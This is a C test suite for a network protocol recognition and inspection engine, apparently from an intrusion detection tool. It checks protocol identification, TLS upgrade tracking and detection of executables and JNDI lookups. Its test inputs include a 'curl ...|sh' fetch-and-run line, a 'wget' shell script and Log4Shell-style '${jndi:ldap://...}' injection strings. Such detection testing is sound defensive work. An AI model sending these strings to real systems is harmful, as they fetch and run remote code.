// SPDX-License-Identifier: GPL-2.0-or-later
// Recognition and contexts: a protocol is what its bytes say, on any port; unknown streams are still searched.
#include "edge.h"
#include "proto_impl.h"
#include "talk.h"

enum { CONTEXTS = 4, TCP = 6, UDP = 17 };

static struct caught caught;
static struct counters counters;
static struct proto_pool *pool;
static uint32_t context, datagrams;
static uint8_t app;
static struct proto_flow flow;

static const struct proto_sink sink = {.emit = talk_catch, .user = &caught, .counters = &counters};

static void setup(void)
{
	memset(&counters, 0, sizeof(counters));
	memset(&flow, 0, sizeof(flow));
	flow.direction = DIRECTION_OUT;
	flow.transport = TCP;
	flow.server_port = 4444;
	address_parse(bytes_of_text("10.0.0.5"), &flow.client);
	address_parse(bytes_of_text("192.0.2.7"), &flow.server);
	caught.count = 0;
	app = APP_NONE;
	datagrams = 0;
	if (pool) // a test that begins anew
		proto_pool_destroy(pool);
	pool = proto_pool_create(CONTEXTS, &counters);
	context = proto_open(pool);
}

static void teardown(void)
{
	proto_pool_destroy(pool);
	pool = NULL;
}

static enum parse feed_bytes(bool client, struct bytes data)
{
	struct proto_input in = proto_input_of_close(&flow, client);

	in.data = edge_copy(data);
	return proto_feed(pool, context, &in, &sink, &app);
}

static enum parse say(bool client, const char *text)
{
	return feed_bytes(client, bytes_of_text(text));
}

static unsigned seen(unsigned kind)
{
	unsigned n = 0;

	for (size_t i = 0; i < caught.count && i < TALK_CAUGHT; i++)
		n += caught.o[i].kind == kind;
	return n;
}

struct opening {
	const char *name;
	bool client;
	uint8_t app;
	uint16_t port; // its own
	struct bytes said;
};

#define O(name, client, app, port, text) {name, client, app, port, {(const uint8_t *)(text), sizeof(text) - 1}}

static const struct opening openings[] = {
	O("http", true, APP_HTTP, 80, "GET / HTTP/1.1\r\n"),
	O("http answer", false, APP_HTTP, 8080, "HTTP/1.1 200 OK\r\n"),
	O("http2", true, APP_HTTP2, 80, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
	O("ssh", true, APP_SSH, 22, "SSH-2.0-OpenSSH_9.2\r\n"),
	O("ssh server", false, APP_SSH, 22, "SSH-2.0-x\r\n"),
	O("smtp", true, APP_SMTP, 25, "EHLO me.example\r\n"),
	O("smtp server", false, APP_SMTP, 587, "220 mx.example ESMTP Postfix\r\n"),
	O("smtp answers", false, APP_SMTP, 25, "220 mx.example\r\n250-mx.example\r\n"),
	O("ftp server", false, APP_FTP, 21, "220 (vsFTPd 3.0.3)\r\n"),
	O("ftp without its name", false, APP_FTP, 21, "220 ready\r\n230 in\r\n"),
	O("filezilla", false, APP_FTP, 21, "220-FileZilla Server 1.9.1\r\n"),
	O("ftp client", true, APP_FTP, 21, "USER x\r\nPASS y\r\nSYST\r\n"),
	O("ftp answers", false, APP_FTP, 21, "220 Welcome\r\n331 Password\r\n"),
	O("smb2", true, APP_SMB, 445, "\0\0\0\x6e\xfeSMB\x40\0\0\0"),
	O("smb1", true, APP_SMB, 139, "\0\0\0\x6e\xffSMBr\0"),
	O("rdp", true, APP_RDP, 3389, "\3\0\0\x13\x0e\xe0\0\0\0\0\0\1\0\x08\0\3\0\0\0"),
	O("kerberos", true, APP_KERBEROS, 88, "\0\0\0\xc8\x6a\x81\xc5\x30\x81\xc2\xa1\3\2\1\5\xa2\3\2\1\x0a"),
	O("kerberos answer", false, APP_KERBEROS, 88, "\0\0\0\x40\x7e\x3e\x30\x3c\xa0\3\2\1\5\xa1\3"),
	O("pop3 server", false, APP_POP3, 110, "+OK ready\r\n"),
	O("pop3 client", true, APP_POP3, 110, "CAPA\r\n"),
	O("imap", false, APP_IMAP, 143, "* OK [CAPABILITY IMAP4rev1 STARTTLS] ready\r\n"),
	O("xmpp", true, APP_XMPP, 5222, "<?xml version='1.0'?><stream:stream to='x'>"),
	O("xmpp server", false, APP_XMPP, 5222, "<stream:stream from='x'>"),
	O("postgresql", true, APP_POSTGRESQL, 5432, "\0\0\0\x29\0\3\0\0user\0me\0"),
	O("postgresql tls", true, APP_POSTGRESQL, 5432, "\0\0\0\x08\x04\xd2\x16\x2f"),
	O("mysql", false, APP_MYSQL, 3306, "\x4a\0\0\0\n8.0.32\0"),
	O("mariadb", false, APP_MYSQL, 3306, "\x4a\0\0\0\n11.4.2-MariaDB\0"),
	O("socks 5", true, APP_SOCKS, 1080, "\5\2\0\2"),
	O("socks 4", true, APP_SOCKS, 1080, "\4\1\1\xbb\1\2\3\4me\0"),
	O("iiop", true, APP_IIOP, 535, "GIOP\1\2\1\0\0\0\0\x24"),
	O("tls", true, APP_TLS, 443, "\x16\3\1\2\0\1\0\1\xfc\3\3"),
	O("ldap", true, APP_LDAP, 389, "\x30\x0c\2\1\1\x60\7\2\1\3\4\0\x80\0"),
	O("rmi", true, APP_RMI, 1099, "JRMI\0\2K"),
	O("dns", true, APP_DNS, 53, "\0\x1d\x12\x34\1\0\0\1\0\0\0\0\0\0\3www\7example\3com\0\0\1\0\1"),
	O("stratum", true, APP_STRATUM, 0, "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n"),
};

enum { OPENINGS = sizeof(openings) / sizeof(openings[0]) };

START_TEST(a_protocol_is_recognised_on_any_port)
{
	const struct opening *o = &openings[_i];

	feed_bytes(o->client, o->said);
	ck_assert_msg(app == o->app, "%s is %s", o->name, app_name(app));
	ck_assert_uint_eq(seen(OBS_PROTOCOL), 1);
	ck_assert_uint_eq(caught.o[0].kind, OBS_PROTOCOL);
	ck_assert_uint_eq(caught.o[0].app, o->app);
	if (o->port)
		ck_assert_msg(caught.o[0].facts & FACT_BIT(FACT_PROTOCOL_PORT), "%s", o->name);
}
END_TEST

START_TEST(a_protocol_is_recognised_byte_by_byte_within_its_segments)
{
	const struct opening *o = &openings[_i];
	struct bytes front = bytes_head(o->said, 3);

	for (size_t i = 0; i < front.left; i++)
		feed_bytes(o->client, bytes_head(bytes_from(front, i), 1));
	ck_assert_msg(app == APP_NONE, "%s after 3 bytes is %s", o->name, app_name(app));
	feed_bytes(o->client, bytes_from(o->said, 3));
	ck_assert_msg(app == o->app, "%s is %s", o->name, app_name(app));
}
END_TEST

START_TEST(on_its_own_port_a_protocol_is_no_fact)
{
	const struct opening *o = &openings[_i];

	if (!o->port)
		return;
	flow.server_port = o->port;
	feed_bytes(o->client, o->said);
	for (size_t i = 0; i < caught.count; i++)
		ck_assert_msg(!(caught.o[i].facts & FACT_BIT(FACT_PROTOCOL_PORT)), "%s", o->name);
}
END_TEST

START_TEST(every_probe_takes_any_bytes)
{
	uint8_t bytes[PROTO_PROBE_BYTES];
	uint32_t x = 1;

	for (unsigned round = 0; round < 20000; round++) {
		size_t n = round % (PROTO_PROBE_BYTES + 1);

		for (size_t i = 0; i < n; i++)
			bytes[i] = (uint8_t)((x = x * 1664525 + 1013904223) >> (round % 3 ? 24 : 31));
		for (const struct proto_ops *const *t = proto_table; *t; t++)
			(*t)->probe(edge_copy(bytes_of(bytes, n)), round & 1);
	}
}
END_TEST

START_TEST(later_observations_carry_the_port_fact_too)
{
	say(true, "GET / HTTP/1.1\r\nHost: a\r\n\r\n");
	ck_assert_uint_eq(caught.count, 2);
	ck_assert_uint_eq(caught.o[1].kind, OBS_HTTP_REQUEST);
	ck_assert_uint_eq(caught.o[1].facts, FACT_BIT(FACT_PROTOCOL_PORT));
}
END_TEST

START_TEST(bytes_before_recognition_reach_the_parser)
{
	flow.server_port = 80;
	say(true, "GE");
	say(true, "T");
	say(true, " /x HTTP/1.1\r\nHost: a\r\n\r\n");
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 1);
	talk_expect_text(&caught.o[1], TEXT_REQUEST_METHOD, "GET");
	talk_expect_text(&caught.o[1], TEXT_REQUEST_URI, "/x");
}
END_TEST

START_TEST(the_other_side_may_tell)
{
	say(true, "odd words of a client, longer than what is kept of them before its protocol is known\r\n");
	ck_assert_int_eq(app, APP_NONE);
	say(false, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
	ck_assert_int_eq(app, APP_HTTP);
	ck_assert_uint_eq(seen(OBS_HTTP_RESPONSE), 1);
	say(true, "GET /2 HTTP/1.1\r\n\r\n");
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 1);
}
END_TEST

START_TEST(one_byte_a_segment_does_not_hide_a_protocol)
{
	static const char said[] = "GET / HTTP/1.1\r\nHost: a\r\n\r\n";

	for (size_t i = 0; said[i]; i++)
		feed_bytes(true, bytes_of(said + i, 1));
	ck_assert_int_eq(app, APP_HTTP);
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 1);
}
END_TEST

START_TEST(an_unknown_protocol_is_said_after_four_segments)
{
	for (unsigned i = 0; i < 4; i++) {
		ck_assert_int_eq(app, APP_NONE);
		ck_assert_int_eq(say(i & 1, "))))))))))))))))))))"), PARSE_MORE);
	}
	ck_assert_int_eq(app, APP_UNKNOWN);
	ck_assert_uint_eq(seen(OBS_PROTOCOL), 1);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_UNKNOWN], 1);
	for (unsigned i = 0; i < 100; i++)
		say(i & 1, "\x01\x02\x03");
	ck_assert_uint_eq(seen(OBS_PROTOCOL), 1);
}
END_TEST

START_TEST(an_unknown_protocol_is_said_after_64_bytes_of_both_sides)
{
	static const uint8_t bytes[PROTO_PROBE_BYTES] = {1, 2, 3};

	feed_bytes(true, bytes_of(bytes, sizeof(bytes)));
	ck_assert_int_eq(app, APP_NONE);
	feed_bytes(false, bytes_of(bytes, sizeof(bytes)));
	ck_assert_int_eq(app, APP_UNKNOWN);
}
END_TEST

START_TEST(a_program_over_a_bare_stream_is_told_on_its_first_segment)
{
	feed_bytes(false, bytes_of("\x7f" "ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0", 18));
	ck_assert_uint_eq(seen(OBS_FILE), 1);
	ck_assert_uint_eq(caught.o[0].facts, FACT_BIT(FACT_EXECUTABLE));
	ck_assert_uint_eq(caught.o[0].app, APP_UNKNOWN);
	feed_bytes(false, bytes_of("\0\0\0\0", 4));
	ck_assert_uint_eq(seen(OBS_FILE), 1);
}
END_TEST

START_TEST(a_class_and_a_script_over_a_bare_stream_are_told)
{
	feed_bytes(false, bytes_of("\xca\xfe\xba\xbe\0\0\0\x34\0\x1d\x0a\0\6\0\x0f\x09\0", 17));
	say(true, "#!/bin/sh\nwget http://x\n");
	ck_assert_uint_eq(seen(OBS_FILE), 2);
	ck_assert_uint_eq(caught.o[0].facts, FACT_BIT(FACT_JAVA_CLASS));
	ck_assert_uint_eq(caught.o[1].facts, FACT_BIT(FACT_SCRIPT));
}
END_TEST

START_TEST(a_short_script_is_told_when_its_side_closes)
{
	say(false, "curl http://192.0.2.9/x|sh");
	ck_assert_uint_eq(seen(OBS_FILE), 0);
	proto_half_close(pool, context, false, &flow, &sink);
	ck_assert_uint_eq(seen(OBS_FILE), 1);
	proto_half_close(pool, context, false, &flow, &sink);
	proto_half_close(pool, context, true, &flow, &sink);
	ck_assert_uint_eq(seen(OBS_FILE), 1);
	ck_assert_uint_eq(seen(OBS_PROTOCOL), 1);
}
END_TEST

START_TEST(mere_text_over_a_bare_stream_is_not_told)
{
	say(false, "welcome to the game\n");
	proto_half_close(pool, context, false, &flow, &sink);
	ck_assert_uint_eq(seen(OBS_FILE), 0);
}
END_TEST

START_TEST(a_look_up_over_a_bare_stream_is_told_if_from_outside)
{
	flow.direction = DIRECTION_IN;
	say(true, "\x01\x02login ${jndi:ldap:/");
	ck_assert_uint_eq(seen(OBS_JNDI), 0);
	say(true, "/192.0.2.9/a} and more ${jndi:dns://x/b}");
	ck_assert_uint_eq(seen(OBS_JNDI), 2);
	say(true, "}}}");
	ck_assert_uint_eq(seen(OBS_JNDI), 2);
	talk_expect_text(&caught.o[0], TEXT_JNDI_FIELD, "payload");
	caught.count = 0;
	say(false, "\x01\x02${jndi:ldap://192.0.2.9/a}");
	ck_assert_uint_eq(seen(OBS_JNDI), 0);
}
END_TEST

START_TEST(recognised_only_is_named_once_and_still_searched)
{
	say(true, "SSH-2.0-x\r\n");
	say(false, "SSH-2.0-y\r\n");
	ck_assert_uint_eq(caught.count, 1);
	ck_assert_int_eq(app, APP_SSH);
}
END_TEST

START_TEST(a_false_greeting_does_not_hide_what_follows)
{
	ck_assert_int_eq(say(false, "SSH-2.0-x\r\n"), PARSE_MORE);
	ck_assert_int_eq(say(true, "GET /a HTTP/1.1\r\nHost: x\r\n\r\n"), PARSE_MORE);
	ck_assert_int_eq(app, APP_HTTP);
}
END_TEST

// However much one side says first, what the other then speaks is read.
START_TEST(what_one_side_says_does_not_use_up_the_others_chance)
{
	static const char *const said[] = {"SSH-2.0-x\r\n", "\1\2\3\4 no protocol anybody knows"};

	for (size_t n = 0; n < sizeof(said) / sizeof(said[0]); n++)
		for (int server = 0; server < 2; server++) {
			setup();
			for (unsigned i = 0; i < 12; i++)
				ck_assert_int_eq(say(!server, said[n]), PARSE_MORE);
			say(server, server ? "GET /a HTTP/1.1\r\nHost: x\r\n\r\n" : "HTTP/1.1 200 OK\r\nServer: x\r\n\r\n");
			ck_assert_int_eq(app, APP_HTTP);
			ck_assert_uint_eq(seen(server ? OBS_HTTP_REQUEST : OBS_HTTP_RESPONSE), 1);
			teardown();
		}
	setup();
}
END_TEST

START_TEST(of_an_unknown_protocol_the_beginning_is_told)
{
	uint8_t each[256];
	const struct observation *o = &caught.o[0];

	for (unsigned i = 0; i < 256; i++)
		each[i] = (uint8_t)(i ^ 0x81);
	feed_bytes(true, bytes_of(each, sizeof(each)));
	say(false, "aaaaaaaaaaaaaaaabbbbbbbbbbbbbbbbccccccccccccccccdddddddddddddddd");
	ck_assert_uint_eq(caught.count, 1);
	ck_assert_uint_eq(o->kind, OBS_PROTOCOL);
	ck_assert_uint_eq(o->app, APP_UNKNOWN);
	ck_assert_uint_eq(o->number[NUM_PROTOCOL_ENTROPY_CLIENT], 800);
	ck_assert_uint_eq(o->number[NUM_PROTOCOL_ENTROPY_SERVER], 200);
	ck_assert_uint_eq(o->number[NUM_PROTOCOL_BYTES_CLIENT], 256);
	ck_assert_uint_eq(o->number[NUM_PROTOCOL_BYTES_SERVER], 64);
	talk_expect_text(o, TEXT_PROTOCOL_FIRST_SERVER, "aaaaaaaaaaaaaaaa");
	ck_assert_uint_eq(observation_text(o, TEXT_PROTOCOL_FIRST_CLIENT).left, 16);
}
END_TEST

static const uint8_t bare_hello[5 + 4 + 2 + 32 + 1 + 4 + 2] = {
	0x16, 3, 1, 0, 45, 1, 0, 0, 41, 3, 3, [5 + 4 + 2 + 32 + 1] = 0, 2, 0x13, 1, 1, 0};

static void say_in_pieces(bool client, struct bytes all, size_t size)
{
	while (all.left) {
		struct bytes piece = bytes_head(all, size);

		feed_bytes(client, piece);
		bytes_skip(&all, piece.left);
	}
}

START_TEST(mail_and_files_are_followed_into_tls)
{
	static const struct {
		const char *greeting, *hello, *ask;
		uint8_t app;
	} talks[] = {{"220 x ESMTP\r\n", "EHLO x\r\n", "STARTTLS\r\n", APP_SMTP},
		     {"220 FTP x\r\n", "FEAT\r\n", "auth tls\r\n", APP_FTP},
		     {"220 \"Authorized users only. All activity may be monitored and reported.\"\r\n", "", "AUTH TLS\r\n", APP_FTP}};

	for (size_t n = 0; n < sizeof(talks) / sizeof(talks[0]); n++)
		for (size_t size = 1; size < 80; size += 6) {
			setup();
			say(false, talks[n].greeting);
			say(true, talks[n].hello);
			say(false, "250 many words\r\n");
			say_in_pieces(true, bytes_of_text(talks[n].ask), size);
			say(false, "220 go\r\n");
			say_in_pieces(true, bytes_of(bare_hello, sizeof(bare_hello)), size);
			ck_assert_uint_eq(seen(OBS_TLS), 1);
			ck_assert_uint_eq(caught.o[caught.count - 1].app, talks[n].app);
			ck_assert_int_eq(app, talks[n].app);
			ck_assert_uint_eq(counters.value[COUNT_PROTO_STARTTLS_CLEAR], 0);
			teardown();
		}
	setup();
}
END_TEST

struct turn {
	bool client;
	struct bytes said;
};

#define TURN(client, text) {client, {(const uint8_t *)(text), sizeof(text) - 1}}

static const char mysql_request[] = "\x20\0\0\1\x85\xae\x7f\0\0\0\0\1\x21                       ";

static const struct {
	uint8_t app;
	struct turn turn[8];
} asked[] = {
	{APP_POP3, {TURN(false, "+OK hi\r\n"), TURN(true, "CAPA\r\n"), TURN(false, "+OK\r\nSTLS\r\n.\r\n"), TURN(true, "stls\r\n"), TURN(false, "+OK\r\n")}},
	{APP_IMAP, {TURN(false, "* OK hi\r\n"), TURN(true, "a.1 CAPABILITY\r\n"), TURN(false, "a.1 OK\r\n"), TURN(true, "a.2 STARTTLS\r\n"), TURN(false, "a.2 OK\r\n")}},
	{APP_XMPP, {TURN(true, "<?xml version='1.0'?><stream:stream to='x'>"), TURN(false, "<stream:stream><stream:features>"),
		    TURN(true, "\n<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"), TURN(false, "<proceed/>")}},
	{APP_POSTGRESQL, {TURN(true, "\0\0\0\x08\x04\xd2\x16\x2f"), TURN(false, "S")}},
	{APP_POSTGRESQL, {TURN(true, "\0\0\0\x08\x04\xd2\x16\x30"), TURN(false, "N"), TURN(true, "\0\0\0\x08\x04\xd2\x16\x2f"), TURN(false, "S")}},
	{APP_MYSQL, {TURN(false, "\x4a\0\0\0\n8.0.32\0"), {true, {(const uint8_t *)mysql_request, 36}}}},
};

// However its client's words are cut; and not where it has not asked.
START_TEST(other_protocols_are_followed_into_tls)
{
	for (size_t size = 1; size < 80; size += 3)
		for (int without = 0; without < 2; without++) {
			const struct turn *t = asked[_i].turn, *last_of_client = t;
			size_t before;

			setup();
			for (size_t i = 0; i < 8 && t[i].said.left; i++)
				last_of_client = t[i].client ? &t[i] : last_of_client;
			for (; t < asked[_i].turn + 8 && t->said.left; t++)
				if (!(without && t == last_of_client))
					say_in_pieces(t->client, t->said, t->client ? size : 200);
			before = caught.count;
			say_in_pieces(true, bytes_of(bare_hello, sizeof(bare_hello)), size);
			if (!without) {
				ck_assert_msg(seen(OBS_TLS) == 1, "in pieces of %zu", size);
				ck_assert_uint_eq(caught.o[before].app, asked[_i].app);
				ck_assert_int_eq(app, asked[_i].app);
			} else if (asked[_i].app != APP_POSTGRESQL && asked[_i].app != APP_MYSQL) { // there a hello is the client's first word
				ck_assert_uint_eq(seen(OBS_TLS), 0);
			}
			ck_assert_uint_eq(counters.value[COUNT_PROTO_STARTTLS_CLEAR], 0);
			teardown();
		}
	setup();
}
END_TEST

START_TEST(a_database_that_begins_in_clear_does_not_go_over_to_tls)
{
	say_in_pieces(true, bytes_of("\0\0\0\x11\0\3\0\0user\0me\0\0", 17), 200);
	feed_bytes(true, bytes_of("\0\0\0\x08\x04\xd2\x16\x2f", 8));
	say(false, "S");
	feed_bytes(true, bytes_of(bare_hello, sizeof(bare_hello)));
	ck_assert_uint_eq(seen(OBS_TLS), 0);
	ck_assert_int_eq(app, APP_POSTGRESQL);
}
END_TEST

#include "proto_proxies.h"
#include "proto_first.h"

START_TEST(a_line_in_clear_behind_starttls_is_counted_and_a_refusal_is_not_one)
{
	say(false, "220 x ESMTP\r\n");
	say(true, "EHLO x\r\n");
	say(true, "STARTTLS\r\nRSET\r\n");
	ck_assert_uint_eq(counters.value[COUNT_PROTO_STARTTLS_CLEAR], 1);
	teardown();
	setup();
	say(false, "220 x ESMTP\r\n");
	say(true, "EHLO x\r\n");
	say(true, "STARTTLS\r\n");
	say(false, "454 not now\r\n");
	say(true, "MAIL FROM:<x>\r\n");
	feed_bytes(true, bytes_of(bare_hello, sizeof(bare_hello))); // unasked
	ck_assert_uint_eq(counters.value[COUNT_PROTO_STARTTLS_CLEAR], 0);
	ck_assert_uint_eq(seen(OBS_TLS), 0);
}
END_TEST

START_TEST(industrial_protocols_in_the_same_envelope_are_no_rdp)
{
	static const char s7[] = "\3\0\0\x16\x11\xe0\0\0\0\1\0\xc0\1\x0a\xc1\2\1\0\xc2\2\1\2";

	ck_assert_int_eq(proto_rdp.probe(bytes_of(s7, sizeof(s7) - 1), true), PROBE_NO);
	ck_assert_int_eq(proto_rdp.probe(bytes_of("\3\0\0\x0b\6\xe0\0\0\0\0\0", 11), true), PROBE_YES);
	ck_assert_int_eq(proto_rdp.probe(bytes_of("\3\0\0\x2c\x27\xe0\0\0\0\0\0Cookie: mstshash=x", 29), true), PROBE_YES);
	ck_assert_int_eq(proto_rdp.probe(bytes_of("\3\0\0\x13\x0e\xd0\0\0\x12\x34\0\2\1\x08\0", 15), false), PROBE_YES);
}
END_TEST

START_TEST(entropy_is_that_of_the_formula)
{
	static uint8_t much[5000];

	ck_assert_uint_eq(entropy_of(bytes_of(NULL, 0)), 0);
	ck_assert_uint_eq(entropy_of(bytes_of_text("a")), 0);
	ck_assert_uint_eq(entropy_of(bytes_of_text("ab")), 100);
	ck_assert_uint_eq(entropy_of(bytes_of_text("aab")), 92);
	ck_assert_uint_eq(entropy_of(bytes_of_text("abcdefghijk")), 346);
	ck_assert_uint_eq(entropy_of(bytes_of_text("hello, world")), 302);
	ck_assert_uint_eq(entropy_of(bytes_of(much, sizeof(much))), 0);
}
END_TEST

START_TEST(bad_bytes_are_counted_and_end_it)
{
	ck_assert_int_eq(say(true, "GET / HTTP/1.1\r\n\r\n\x01\r\n"), PARSE_BAD);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_BAD], 1);
	ck_assert_int_eq(say(true, "GET / HTTP/1.1\r\n\r\n"), PARSE_DONE);
}
END_TEST

START_TEST(an_http_body_ends_when_its_side_closes)
{
	flow.server_port = 80;
	say(false, "HTTP/1.0 200 OK\r\n\r\nplain words");
	ck_assert_uint_eq(seen(OBS_FILE), 0);
	proto_half_close(pool, context, false, &flow, &sink);
	ck_assert_uint_eq(seen(OBS_FILE), 1);
}
END_TEST

START_TEST(a_pool_is_finite_and_its_contexts_come_back)
{
	uint32_t ids[CONTEXTS] = {context};

	for (unsigned i = 1; i < CONTEXTS; i++)
		ck_assert_uint_ne(ids[i] = proto_open(pool), 0);
	ck_assert_uint_eq(proto_open(pool), 0);
	proto_close(pool, ids[2]);
	proto_close(pool, ids[2]);
	proto_close(pool, 0);
	proto_close(pool, 99);
	ck_assert_uint_eq(proto_open(pool), ids[2]);
	ck_assert_uint_eq(proto_open(pool), 0);
}
END_TEST

// A pool lends large states to those that are fed.
START_TEST(the_least_fed_context_gives_way_and_is_said)
{
	struct proto_sink marking = sink;
	struct proto_input in = proto_input_of_close(&flow, true);
	uint32_t other;

	proto_pool_destroy(pool);
	pool = proto_pool_create_sized(&(struct proto_pool_sizes){.contexts = 4, .states = 1}, &counters);
	context = proto_open(pool);
	other = proto_open(pool);
	memset(caught.marked, 0, sizeof(caught.marked));
	marking.uninspected = talk_mark;
	in.data = bytes_of_text("\x01words of no protocol");
	ck_assert_int_eq(proto_feed(pool, context, &in, &marking, &app), PARSE_MORE);
	ck_assert_int_eq(proto_feed(pool, context, &in, &marking, &app), PARSE_MORE);
	ck_assert_int_eq(proto_feed(pool, other, &in, &marking, &app), PARSE_MORE);
	ck_assert(!caught.marked[COUNT_PROTO_CONTEXT_FULL]);
	ck_assert_int_eq(proto_feed(pool, context, &in, &marking, &app), PARSE_DONE);
	ck_assert(caught.marked[COUNT_PROTO_CONTEXT_FULL]);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_CONTEXT_FULL], 1);
	ck_assert_int_eq(proto_feed(pool, other, &in, &marking, &app), PARSE_MORE);
	proto_half_close(pool, context, true, &flow, &marking);
	proto_close(pool, context);
	proto_close(pool, other);
}
END_TEST

START_TEST(a_context_taken_again_remembers_nothing)
{
	say(true, "GET / HTTP/1.1\r\nHo");
	proto_close(pool, context);
	context = proto_open(pool);
	app = APP_NONE;
	caught.count = 0;
	say(true, "GET /2 HTTP/1.1\r\n\r\n");
	ck_assert_uint_eq(caught.count, 2);
	ck_assert_uint_eq(caught.o[1].number[NUM_REQUEST_TX], 1);
	ck_assert_uint_eq(caught.o[1].flags8, OBS_FLAG_BARE_HOST);
}
END_TEST

START_TEST(a_gap_before_anything_is_known_is_told_to_the_parser)
{
	struct proto_input in = proto_input_of_close(&flow, true);

	say(true, "GE");
	in.gap = true;
	in.data = bytes_of_text("T / HTTP/1.1\r\n\r\n");
	proto_feed(pool, context, &in, &sink, &app);
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 0);
	say(false, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
	ck_assert_int_eq(app, APP_HTTP);
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 0);
}
END_TEST

START_TEST(a_datagram_of_ntp_or_nothing_known_says_so_once)
{
	uint8_t ntp[48] = {0x23};
	struct proto_input in = {.data = bytes_of(ntp, sizeof(ntp)), .from_client = true, .flow = &flow};

	flow.transport = UDP;
	flow.server_port = 123;
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_int_eq(app, APP_NTP);
	ck_assert_uint_eq(caught.count, 1);
	app = APP_NONE;
	in.data = bytes_of("\xff\xff", 2);
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_int_eq(app, APP_UNKNOWN);
	ck_assert_uint_eq(caught.count, 2);
}
END_TEST

START_TEST(a_dns_datagram_is_parsed)
{
	struct proto_input in = {.from_client = true, .flow = &flow};

	flow.transport = UDP;
	flow.server_port = 53;
	in.data = edge_copy(bytes_of("\x12\x34\1\0\0\1\0\0\0\0\0\0\3www\7example\3com\0\0\1\0\1", 33));
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_int_eq(app, APP_DNS);
	ck_assert_uint_eq(seen(OBS_DNS), 1);
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_uint_eq(seen(OBS_DNS), 2);
	ck_assert_uint_eq(seen(OBS_PROTOCOL), 1);
}
END_TEST

START_TEST(junk_in_the_first_datagram_does_not_hide_dns)
{
	struct proto_input in = {.from_client = true, .flow = &flow};

	flow.transport = UDP;
	flow.server_port = 53;
	in.data = bytes_of("\xff\xff", 2);
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_int_eq(app, APP_UNKNOWN);
	in.data = edge_copy(bytes_of("\x12\x34\1\0\0\1\0\0\0\0\0\0\3www\7example\3com\0\0\1\0\1", 33));
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_int_eq(app, APP_DNS);
	ck_assert_uint_eq(seen(OBS_DNS), 1);
	ck_assert_uint_eq(seen(OBS_PROTOCOL), 2);
}
END_TEST

// What a log server takes for a line may look like NTP: '#' and a tab.
START_TEST(a_datagram_that_nobody_parses_is_searched_whatever_it_is_called)
{
	static char long_one[9000];
	struct proto_input in = {.from_client = true, .from_outside = true, .flow = &flow};

	flow.transport = UDP;
	flow.direction = DIRECTION_IN;
	flow.server_port = 514;
	in.data = edge_copy(bytes_of_text("#\t${jndi:ldap://x.example/a} and some words to make it 48 bytes"));
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_int_eq(app, APP_NTP);
	ck_assert_uint_eq(seen(OBS_JNDI), 1);
	in.data = edge_copy(bytes_of_text("<13>${jndi:ldap://x.example/a}"));
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_uint_eq(seen(OBS_JNDI), 2);
	app = APP_NONE; // no DNS on this port
	in.data = edge_copy(bytes_of("\x12\x34\1\0\0\1\0\0\0\0\0\0\x1b${jndi:ldap://x.example/aa}\0\0\1\0\1", 45));
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_int_eq(app, APP_DNS);
	ck_assert_uint_eq(seen(OBS_JNDI), 3);
	app = APP_NONE;
	memset(long_one, 'x', sizeof(long_one));
	in.data = bytes_of(long_one, sizeof(long_one));
	ck_assert_uint_eq(counters.value[COUNT_PROTO_BUDGET], 0);
	proto_datagram(pool, &datagrams, &in, &sink, &app);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_BUDGET], 1);
}
END_TEST

// Work, counted: whatever the size of the segments, a stream buys a fixed number of looks and searches.
START_TEST(one_byte_a_segment_buys_a_fixed_number_of_looks)
{
	size_t looks = 0, looked = 0;

	for (size_t n = 1; n <= FILE_HEAD_BYTES; n++)
		if (file_look_due(n, looked)) {
			looks++;
			looked = n;
		}
	ck_assert_uint_le(looks, 64);
}
END_TEST

START_TEST(one_closing_brace_a_segment_buys_a_fixed_number_of_searches)
{
	static uint8_t at[WINDOW_BYTES];
	struct window w = {0};
	struct proto_input in = {.from_client = true, .from_outside = true, .flow = &flow};

	for (size_t i = 0; i < 2 * WINDOW_BYTES; i++) {
		window_add(&w, at, bytes_of_text("}"));
		window_scan(&w, at, false, "body", &in, &sink, APP_HTTP);
	}
	ck_assert_uint_le(w.scans, WINDOW_SCANS + 1);
	ck_assert(w.done);
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("proto");
	TCase *c = tcase_create("proto");

	tcase_set_timeout(c, 60);
	tcase_add_checked_fixture(c, setup, teardown);
	tcase_add_loop_test(c, a_protocol_is_recognised_on_any_port, 0, OPENINGS);
	tcase_add_loop_test(c, a_protocol_is_recognised_byte_by_byte_within_its_segments, 0, OPENINGS);
	tcase_add_loop_test(c, on_its_own_port_a_protocol_is_no_fact, 0, OPENINGS);
	tcase_add_test(c, every_probe_takes_any_bytes);
	tcase_add_test(c, later_observations_carry_the_port_fact_too);
	tcase_add_test(c, a_server_that_speaks_first_does_not_choose_the_parser);
	tcase_add_test(c, a_datagram_like_quic_does_not_hide_dns);
	tcase_add_test(c, a_record_of_data_before_any_hello_is_said);
	tcase_add_test(c, what_parsers_pass_over_is_searched);
	tcase_add_test(c, bytes_before_recognition_reach_the_parser);
	tcase_add_test(c, the_other_side_may_tell);
	tcase_add_test(c, one_byte_a_segment_does_not_hide_a_protocol);
